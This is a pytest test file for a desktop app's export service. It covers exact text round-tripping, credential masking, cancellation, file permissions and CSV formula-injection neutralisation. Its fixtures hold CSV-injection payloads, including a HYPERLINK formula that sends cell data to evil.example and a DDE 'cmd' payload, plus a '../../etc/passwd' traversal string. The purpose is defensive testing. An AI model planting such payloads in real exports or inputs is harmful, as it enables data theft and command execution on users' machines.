"""Export at the service level: exact content, awkward text, masked credentials, cancel."""

from __future__ import annotations

import csv
import json
import re
import threading
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import text
from sqlalchemy.engine import Engine

from desktop.core.cancel import CancelToken, scope
from desktop.core.errors import Cancelled, KnownError
from desktop.core.view_state import ViewState
from desktop.services import export

AWKWARD = 'Back\\slash "quoted", comma;\ttab \\n 🙂 O\'Brien'


def test_json_and_csv_keep_awkward_text_exactly(seeded_engine: Engine, tmp_path: Path) -> None:
    with seeded_engine.begin() as c:
        c.execute(text('UPDATE "user" SET name = :n WHERE id = 3'), {"n": AWKWARD})
    state = ViewState("users", search="\\slash")
    result = export.export_view(seeded_engine, state, tmp_path / "u.json", "json")
    document = json.loads((tmp_path / "u.json").read_text())
    assert result.rows == 1 and [d["name"] for d in document] == [AWKWARD]
    assert document[0]["status"] in {"active", "inactive", "deleted"}
    export.export_view(seeded_engine, state, tmp_path / "u.csv", "csv")
    with (tmp_path / "u.csv").open(newline="") as f:
        assert [r["name"] for r in csv.DictReader(f)] == [AWKWARD]


def test_plugin_exports_carry_key_names_not_secrets(seeded_engine: Engine, tmp_path: Path) -> None:
    with seeded_engine.connect() as c:
        secrets = [
            v for (v,) in c.execute(text("SELECT value FROM plugin, json_each_text(credentials)"))
        ]
        count = c.execute(text("SELECT count(*) FROM plugin")).scalar_one()
    for fmt in ("csv", "json"):
        path = tmp_path / f"p.{fmt}"
        result = export.export_view(seeded_engine, ViewState("plugins"), path, fmt)
        assert result.rows == count
        content = path.read_text()
        assert all(secret not in content for secret in secrets)
        assert "password" in content  # the key name is there, its value is not


def test_cancel_mid_stream_leaves_nothing(
    seeded_engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "PROGRESS_EVERY", 10)
    token = CancelToken()
    path = tmp_path / "users.csv"
    seen: list[int] = []

    def progress(rows: int) -> None:
        seen.append(rows)
        token.cancel()

    def run() -> None:
        with scope(token), pytest.raises(Cancelled):
            export.export_view(seeded_engine, ViewState("users"), path, "csv", progress)

    worker = threading.Thread(target=run)
    worker.start()
    worker.join(30)
    assert seen == [10]
    assert list(tmp_path.iterdir()) == []


def test_unwritable_target_is_a_clear_message(seeded_engine: Engine, tmp_path: Path) -> None:
    with pytest.raises(KnownError, match="Could not write"):
        export.export_view(seeded_engine, ViewState("users"), tmp_path / "missing" / "u.csv", "csv")


#: Cells a spreadsheet runs (OWASP "CSV Injection"), and text that only looks like a number.
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "-2-3",
    "=-5",
]
PLAIN = ["-5", "+3.5", "a=b", " =1", "O'Brien", "5-3"]


def _names(seeded_engine: Engine, values: list[str]) -> list[int]:
    with seeded_engine.begin() as c:
        ids = [
            r
            for (r,) in c.execute(
                text('SELECT id FROM "user" ORDER BY id LIMIT :n'), {"n": len(values)}
            )
        ]
        for user_id, value in zip(ids, values, strict=True):
            c.execute(
                text('UPDATE "user" SET name = :n, email = :e WHERE id = :id'),
                {"n": value, "e": f"{value}@x.example", "id": user_id},
            )
    return ids


def _csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_csv_formula_cells_are_neutralised_by_default(
    seeded_engine: Engine, tmp_path: Path
) -> None:
    values = FORMULAS + PLAIN
    ids = _names(seeded_engine, values)
    state = ViewState("users")
    export.export_view(seeded_engine, state, tmp_path / "u.csv", "csv")
    rows = {int(r["id"]): r for r in _csv(tmp_path / "u.csv")}
    for user_id, value in zip(ids, values, strict=True):
        expected = "'" + value if value in FORMULAS else value
        assert rows[user_id]["name"] == expected, value
        email = f"{value}@x.example"  # "-5@x.example" is no number: neutralised
        assert rows[user_id]["email"] == ("'" + email if email[0] in "=+-@\t\r" else email)
    live = [
        v
        for r in rows.values()
        for v in r.values()
        if v[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(export.PLAIN_NUMBER, v)
    ]
    assert live == []
    # Numbers, dates and booleans are data: written as the database holds them (booleans
    # as words, not COPY's t / f).
    assert all(r["id"].isascii() and r["id"].isdigit() for r in rows.values())
    assert {r["is_system"] for r in rows.values()} == {"true", "false"}


@pytest.mark.parametrize("formulas", ["neutralise", "keep"])
def test_csv_booleans_are_true_and_false_as_in_the_database(
    seeded_engine: Engine, tmp_path: Path, formulas: str
) -> None:
    export.export_view(
        seeded_engine, ViewState("users"), tmp_path / "u.csv", "csv", formulas=formulas
    )
    exported = {int(r["id"]): r["is_system"] for r in _csv(tmp_path / "u.csv")}
    with seeded_engine.connect() as c:
        stored = dict(c.execute(text('SELECT id, is_system FROM "user"')).tuples().all())
    assert exported == {i: "true" if v else "false" for i, v in stored.items()}
    assert "true" in exported.values()


@pytest.mark.parametrize(
    ("state", "subject", "name"),
    [
        (ViewState("users"), "", "users-2026-12-04.csv"),
        (
            ViewState("users", organization_id=7, statuses=frozenset({2})),
            "Northwind Analytics",
            "users-northwind-analytics-inactive-2026-12-04.csv",
        ),
        (ViewState("plugins", organization_id=7), "", "plugins-organization-7-2026-12-04.csv"),
        (
            ViewState("users", search=" grace.tanaka@x.example "),
            "",
            "users-grace.tanaka@x.example-2026-12-04.csv",
        ),
        (ViewState("users", search="../../etc/passwd"), "Ünïcode / Co", None),
    ],
)
def test_an_export_is_named_after_what_it_holds(
    state: ViewState, subject: str, name: str | None
) -> None:
    suggested = export.suggested_name(state, subject, date(2026, 12, 4))
    if name is not None:
        assert suggested == name
    # Never a path: no separator, no leading dot, nothing a file system refuses.
    assert "/" not in suggested and "\\" not in suggested and not suggested.startswith(".")
    assert re.fullmatch(r"[\w.@-]+\.csv", suggested), suggested


def test_formulas_keep_writes_every_value_as_stored(seeded_engine: Engine, tmp_path: Path) -> None:
    ids = _names(seeded_engine, FORMULAS)
    export.export_view(
        seeded_engine, ViewState("users"), tmp_path / "raw.csv", "csv", formulas="keep"
    )
    rows = {int(r["id"]): r["name"] for r in _csv(tmp_path / "raw.csv")}
    assert [rows[i] for i in ids] == FORMULAS
    export.export_view(seeded_engine, ViewState("users"), tmp_path / "u.json", "json")
    document = {d["id"]: d["name"] for d in json.loads((tmp_path / "u.json").read_text())}
    assert [document[i] for i in ids] == FORMULAS  # JSON: never changed


def test_organization_names_and_plugin_titles_are_neutralised_too(
    seeded_engine: Engine, tmp_path: Path
) -> None:
    with seeded_engine.begin() as c:
        org = c.execute(text("SELECT min(id) FROM organization")).scalar_one()
        c.execute(text("UPDATE organization SET name = '@evil' WHERE id = :o"), {"o": org})
        c.execute(text("UPDATE plugin SET title = '=2*3' WHERE organization_id = :o"), {"o": org})
    export.export_view(seeded_engine, ViewState("organizations"), tmp_path / "o.csv", "csv")
    assert "'@evil" in {r["name"] for r in _csv(tmp_path / "o.csv")}
    export.export_view(seeded_engine, ViewState("plugins"), tmp_path / "p.csv", "csv")
    plugins = _csv(tmp_path / "p.csv")
    assert {r["title"] for r in plugins if r["organization_id"] == str(org)} == {"'=2*3"}
    assert {r["organization"] for r in plugins if r["organization_id"] == str(org)} == {"'@evil"}


def test_export_files_are_private_from_the_start(
    seeded_engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "PROGRESS_EVERY", 10)
    path = tmp_path / "users.csv"
    modes: list[int] = []

    def progress(rows: int) -> None:
        partial = export.partial_path(path)
        if partial.exists():
            modes.append(partial.stat().st_mode & 0o777)

    export.export_view(seeded_engine, ViewState("users"), path, "csv", progress)
    assert modes and set(modes) == {0o600}
    assert path.stat().st_mode & 0o777 == 0o600
